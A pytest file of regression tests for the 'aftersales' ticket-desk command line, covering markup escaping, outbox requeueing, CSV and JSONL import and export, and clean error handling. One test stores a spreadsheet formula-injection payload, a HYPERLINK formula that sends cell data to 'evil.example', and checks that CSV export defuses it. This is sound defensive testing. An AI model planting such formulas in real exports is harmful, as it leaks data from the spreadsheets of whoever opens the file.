"""Review of the operator commands (issue 22): defects found, each proven by a failing test.

Each test runs ``aftersales`` the way an operator does (in-process through Typer's
runner, stdin and stdout as a pipe) on a SQLite file of its own, or on the PostgreSQL
server in a database of its own (``rv_cli_pg``).
"""

from __future__ import annotations

import csv
import gc
import io
import json
import os
import subprocess
import sys
import warnings
from datetime import datetime, timezone
from pathlib import Path

import attrs
import pytest
from servers import no_server
from typer.testing import CliRunner

from aftersales import Desk, FrozenClock, InvalidInput, Notification
from aftersales.cases import CaseKindSpec
from aftersales.models._base import Record, Text
from aftersales.storage import SQLiteStore, Store
from aftersales.workflows import State, Transition, Workflow

T0 = datetime(2026, 3, 2, 9, 0, tzinfo=timezone.utc)

POSTGRES = ("AFTERSALES_TEST_POSTGRES_URL", "postgresql+psycopg://postgres@127.0.0.1:5432/test")
REVIEW_DATABASE = "rv_cli_pg"

FACTS = {
    "jurisdiction": "cn",
    "product": {"category": "apparel"},
    "order": {
        "purchased_at": "2024-03-01T10:00:00+08:00",
        "delivered_at": "2024-03-03T15:00:00+08:00",
        "unit_price": {"amount": "199.00", "currency": "CNY"},
    },
    "claim": {"at": "2024-03-10T23:59:00+08:00", "kind": "no_reason_return"},
}


@attrs.frozen
class Ran:
    """What one command printed and how it exited."""

    code: int
    out: str
    err: str
    crashed: BaseException | None
    out_bytes: bytes = b""
    """Standard output as written (``out`` has Click's universal newlines)."""


def run(*arguments: str, stdin: str | bytes | None = None) -> Ran:
    """Run ``aftersales ARGUMENTS`` in-process; an exception that escaped the command
    (a traceback for the operator) is kept in ``crashed``."""
    from aftersales.cli import _build_app

    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("COLUMNS", "250")
        result = CliRunner().invoke(_build_app(), list(arguments), input=stdin)
    crashed = None if isinstance(result.exception, SystemExit) else result.exception
    return Ran(result.exit_code, result.stdout, result.stderr, crashed, result.stdout_bytes)


def _desk_with(db: Path, subject: str, description: str = "") -> str:
    """A SQLite desk holding one ticket of ``subject``; its id."""
    with Desk.sqlite(db, clock=FrozenClock(T0)) as desk:
        opened = desk.open_ticket(
            customer="c-1", channel="email", subject=subject, description=description
        )
        return opened.id


# ------------------------------------------------------------- Rich markup in stored text


def test_a_subject_with_square_brackets_is_listed_as_written(tmp_path: Path) -> None:
    db = tmp_path / "desk.db"
    _desk_with(db, "Order [/b] broken")
    ran = run("tickets", "list", "--db", str(db))
    assert (ran.code, ran.crashed) == (0, None)
    assert "Order [/b] broken" in ran.out


def test_tickets_show_prints_a_subject_with_markup_as_stored(tmp_path: Path) -> None:
    db = tmp_path / "desk.db"
    _desk_with(db, "[bold]Refund[/bold] not received")
    ran = run("tickets", "show", "1", "--db", str(db))
    assert ran.code == 0
    assert "[bold]Refund[/bold] not received" in ran.out


@pytest.mark.parametrize("command", [["dead-letters"], ["outbox"]])
def test_dead_letters_with_brackets_in_their_error_are_listed(
    tmp_path: Path, command: list[str]
) -> None:
    db = tmp_path / "desk.db"

    def webhook(notification: Notification) -> None:
        raise RuntimeError("POST https://hooks.example/[/api]/v1 returned 500")

    with Desk.sqlite(db, clock=FrozenClock(T0), settings={"max_delivery_attempts": 1}) as desk:
        desk.on_transition(webhook, name="webhook")
        desk.open_ticket(customer="c-1", channel="email", subject="Kettle leaks")
        assert len(desk.outbox("dead")) == 1
    ran = run(*command, "--db", str(db))
    assert (ran.code, ran.crashed) == (0, None)
    assert "[/api]" in ran.out


# ----------------------------------------------------------------- the app's own desk

GIFT_WORKFLOW = Workflow(
    "gift_box",
    initial="asked",
    states=[State("asked", "new"), State("wrapped", "closed")],
    transitions=[Transition("wrap", "asked", "wrapped")],
)


class GiftDetails(Record):
    """What a gift-wrapping case records."""

    message: Text


def gift_desk(store: Store) -> Desk:
    """What ``--app test_review_cli:gift_desk`` builds: a desk with a case kind of its own."""
    desk = Desk(store)
    desk.cases.register(CaseKindSpec("gift_box", GIFT_WORKFLOW, details=GiftDetails))
    return desk


def test_history_of_a_case_of_the_apps_own_kind(tmp_path: Path) -> None:
    db = tmp_path / "desk.db"
    with gift_desk(SQLiteStore(db)) as desk:
        ticket = desk.open_ticket(customer="c-1", channel="app", subject="gift")
        case = desk.cases.create("gift_box", ticket.id, details={"message": "hi"})
        desk.cases.fire(case.id, "wrap")
    listed = run("cases", "show", case.id, "--db", str(db), "--app", "test_review_cli:gift_desk")
    assert listed.code == 0, listed.err  # the case itself is shown with --app
    ran = run("history", case.id, "--db", str(db), "--app", "test_review_cli:gift_desk", "--json")
    assert ran.code == 0, ran.err
    assert [json.loads(line)["trigger"] for line in ran.out.splitlines()] == ["created", "wrap"]


# ------------------------------------------------------------------ requeue and workers


def test_a_late_failure_from_before_the_requeue_does_not_kill_the_requeued_row(
    tmp_path: Path,
) -> None:
    db = tmp_path / "desk.db"
    clock = FrozenClock(T0)
    settings = {"max_delivery_attempts": 1, "delivery_lease_seconds": 30}
    slow = Desk.sqlite(db, clock=clock, settings=settings)  # worker A: a stuck receiver
    other = Desk.sqlite(db, clock=clock, settings=settings)  # worker B
    operator = Desk.sqlite(db, clock=clock, settings=settings)
    requeued: list[int] = []

    def down(notification: Notification) -> None:
        raise RuntimeError("smtp down")

    def stuck(notification: Notification) -> None:
        clock.advance(seconds=31)  # A's lease runs out while its receiver hangs
        assert other.dispatch_outbox().dead == 1  # B claims the row and kills it
        requeued.append(operator.requeue_dead_letters())  # the operator requeues it
        raise RuntimeError("timed out")  # A's delivery, begun before, fails at last

    try:
        slow.on_transition(stuck, name="mailer", inline=False)
        other.on_transition(down, name="mailer", inline=False)
        ticket = slow.open_ticket(customer="c-1", channel="email", subject="Kettle leaks")
        slow.dispatch_outbox()
        assert requeued == [1]
        [row] = operator.outbox()
        assert row.key == f"{ticket.id}:1:mailer"
        assert (row.status.value, row.attempts) == ("pending", 0)
    finally:
        for desk in (slow, other, operator):
            desk.close()


# ------------------------------------------------------------------------ import / export


def test_a_csv_piped_through_standard_input_keeps_carriage_returns(tmp_path: Path) -> None:
    source, target = tmp_path / "source.db", tmp_path / "target.db"
    description = "line one\r\nline two\rline three"
    _desk_with(source, "Kettle leaks", description=description)
    exported = run("export", "--db", str(source), "--format", "csv")
    assert exported.code == 0
    Desk.sqlite(target).close()
    imported = run("import", "-", "--db", str(target), "--format", "csv", stdin=exported.out_bytes)
    assert imported.code == 0, imported.err
    with Desk.sqlite(target) as desk:
        assert desk.get(1).description == description


def test_moving_tickets_with_export_and_import_keeps_their_messages(tmp_path: Path) -> None:
    source, target = tmp_path / "source.db", tmp_path / "target.db"
    with Desk.sqlite(source, clock=FrozenClock(T0)) as desk:
        ticket = desk.open_ticket(customer="c-1", channel="email", subject="Kettle leaks")
        desk.add_message(ticket.id, "It leaks again", author_id="c-1", author_role="customer")
        desk.add_message(ticket.id, "Courier booked", author_id="li.wei")
        sent = [m.body for m in desk.messages(ticket.id, include_internal=True)]
    exported = run("export", "--db", str(source))
    assert exported.code == 0
    Desk.sqlite(target).close()
    imported = run("import", "-", "--db", str(target), stdin=exported.out_bytes)
    assert imported.code == 0, imported.err
    with Desk.sqlite(target) as desk:
        assert [m.body for m in desk.messages(ticket.id, include_internal=True)] == sent


def test_a_csv_with_a_utf8_byte_order_mark_imports(tmp_path: Path) -> None:
    db, legacy = tmp_path / "desk.db", tmp_path / "legacy.csv"
    Desk.sqlite(db).close()
    legacy.write_bytes(
        "\ufeffchannel,subject,customer_id,status,created_at,updated_at\r\n"
        "email,Kettle leaks,c-1,new,2026-03-02T09:00:00Z,2026-03-02T09:00:00Z\r\n".encode()
    )
    ran = run("import", str(legacy), "--db", str(db))
    assert ran.code == 0, ran.err
    with Desk.sqlite(db) as desk:
        assert desk.get(1).subject == "Kettle leaks"


def test_a_csv_export_does_not_write_formulas(tmp_path: Path) -> None:
    db = tmp_path / "desk.db"
    _desk_with(db, '=HYPERLINK("https://evil.example/?leak="&A2,"click")')
    ran = run("export", "--db", str(db), "--format", "csv")
    assert ran.code == 0
    rows = list(csv.DictReader(io.StringIO(ran.out)))
    assert not rows[0]["subject"].startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.filterwarnings("ignore::ResourceWarning")  # the leak has its own test below
def test_the_documented_import_into_a_new_database_works(tmp_path: Path) -> None:
    legacy, new = tmp_path / "legacy.csv", tmp_path / "new.db"
    legacy.write_text(
        "channel,subject,customer_id,status,created_at,updated_at\n"
        "email,Kettle leaks,c-1,new,2026-03-02T09:00:00Z,2026-03-02T09:00:00Z\n",
        encoding="utf-8",
    )
    ran = run("import", str(legacy), "--db", str(new))
    gc.collect()
    assert ran.code == 0, ran.err
    with Desk.sqlite(new) as desk:
        assert desk.get(1).subject == "Kettle leaks"


def test_the_app_opens_tickets_after_an_import_of_numbered_ones(tmp_path: Path) -> None:
    db, legacy = tmp_path / "desk.db", tmp_path / "legacy.jsonl"
    base = {
        "channel": "email",
        "customer_id": "c-1",
        "status": "new",
        "created_at": "2025-01-01T00:00:00Z",
        "updated_at": "2025-01-01T00:00:00Z",
    }
    lines = [{**base, "number": n, "subject": f"legacy {n}"} for n in (2, 3)]
    legacy.write_text("".join(json.dumps(line) + "\n" for line in lines), encoding="utf-8")
    with Desk.sqlite(db, clock=FrozenClock(T0)) as app:  # the app, running meanwhile
        app.open_ticket(customer="c-2", channel="email", subject="before the import")
        ran = run("import", str(legacy), "--db", str(db))
        assert ran.code == 0, ran.err
        refused: list[str] = []
        for _ in range(3):
            try:
                app.open_ticket(customer="c-2", channel="email", subject="after the import")
            except InvalidInput as error:
                refused.append(str(error))
        assert refused == []
        assert len(app.find()) == 6


def test_an_import_refused_for_its_store_closes_the_file(tmp_path: Path) -> None:
    legacy = tmp_path / "legacy.jsonl"
    legacy.write_text("", encoding="utf-8")
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        ran = run("import", str(legacy), "--db", str(tmp_path / "missing.db"))
        gc.collect()
    assert ran.code == 1
    assert [w for w in caught if issubclass(w.category, ResourceWarning)] == []


def test_a_number_clash_with_an_assigned_number_names_its_line(tmp_path: Path) -> None:
    db, legacy = tmp_path / "desk.db", tmp_path / "legacy.jsonl"
    Desk.sqlite(db).close()
    base = {
        "channel": "email",
        "customer_id": "c-1",
        "status": "new",
        "created_at": "2026-03-02T09:00:00Z",
        "updated_at": "2026-03-02T09:00:00Z",
    }
    lines = [{**base, "subject": "no number"}, {**base, "subject": "number 1", "number": 1}]
    legacy.write_text("".join(json.dumps(line) + "\n" for line in lines), encoding="utf-8")
    ran = run("import", str(legacy), "--db", str(db))
    assert ran.code == 1
    assert "line 2" in ran.err
    with Desk.sqlite(db) as desk:
        assert desk.find() == []


# ------------------------------------------------------------------ clean errors, no traces


def test_a_facts_file_that_is_not_utf8_is_a_clean_error(tmp_path: Path) -> None:
    facts = tmp_path / "facts.json"
    facts.write_bytes(json.dumps(FACTS).encode("utf-16"))
    ran = run("policy", "check", str(facts))
    assert ran.crashed is None
    assert ran.code == 1
    assert ran.err.startswith("error:")


def test_a_url_whose_driver_is_missing_is_a_clean_error() -> None:
    ran = run("tickets", "list", "--db", "mysql://app@127.0.0.1:1/service", "--json")
    assert ran.crashed is None
    assert ran.code == 1
    assert ran.err.startswith("error:")


# ------------------------------------------------------- read commands create nothing


def test_a_read_command_does_not_create_a_sqlite_file_given_as_a_url(tmp_path: Path) -> None:
    ghost = tmp_path / "ghost.db"
    ran = run("tickets", "list", "--db", f"sqlite+pysqlite:///{ghost}", "--json")
    assert not ghost.exists()
    assert ran.code == 1


def _recreate_review_database(*, create: bool) -> str:
    """The URL of database ``rv_cli_pg``, dropped and (``create``) made again, empty;
    skips (fails in CI) without a server."""
    sqlalchemy = pytest.importorskip("sqlalchemy")
    variable, default = POSTGRES
    url = sqlalchemy.make_url(os.environ.get(variable, default))
    try:
        engine = sqlalchemy.create_engine(url, isolation_level="AUTOCOMMIT")
        with engine.connect() as conn:
            conn.execute(sqlalchemy.text(f"DROP DATABASE IF EXISTS {REVIEW_DATABASE}"))
            if create:
                conn.execute(sqlalchemy.text(f"CREATE DATABASE {REVIEW_DATABASE}"))
        engine.dispose()
    except Exception as error:  # noqa: BLE001 - any failure to connect means "no server"
        no_server("postgresql", repr(url), variable, error)
    return str(url.set(database=REVIEW_DATABASE).render_as_string(hide_password=False))


def test_a_read_command_does_not_create_tables_in_a_database_without_a_store() -> None:
    sqlalchemy = pytest.importorskip("sqlalchemy")
    url = _recreate_review_database(create=True)
    ran = run("tickets", "list", "--db", url, "--json")
    engine = sqlalchemy.create_engine(url)
    try:
        tables = sqlalchemy.inspect(engine).get_table_names()
    finally:
        engine.dispose()
        _recreate_review_database(create=False)
    assert tables == []
    assert ran.code == 1


# ------------------------------------------------------------- standard output that fails


def _to_a_full_disk(*arguments: str) -> subprocess.CompletedProcess[str]:
    """Run the console script with standard output on /dev/full (a disk that is full)."""
    if not Path("/dev/full").exists():
        pytest.skip("needs /dev/full (Linux)")
    script = Path(sys.executable).with_name("aftersales")
    with open("/dev/full", "w", encoding="utf-8") as full:
        return subprocess.run(
            [str(script), *arguments], stdout=full, stderr=subprocess.PIPE, text=True, check=False
        )


def test_an_export_to_a_full_standard_output_names_it(tmp_path: Path) -> None:
    db = tmp_path / "desk.db"
    _desk_with(db, "Kettle leaks")
    done = _to_a_full_disk("export", "--db", str(db))
    assert done.returncode == 1
    assert "None" not in done.stderr


def test_a_listing_to_a_full_standard_output_is_a_clean_error(tmp_path: Path) -> None:
    db = tmp_path / "desk.db"
    _desk_with(db, "Kettle leaks")
    done = _to_a_full_disk("tickets", "list", "--db", str(db), "--json")
    assert done.returncode == 1
    assert "Traceback" not in done.stderr
    assert done.stderr.startswith("error:")
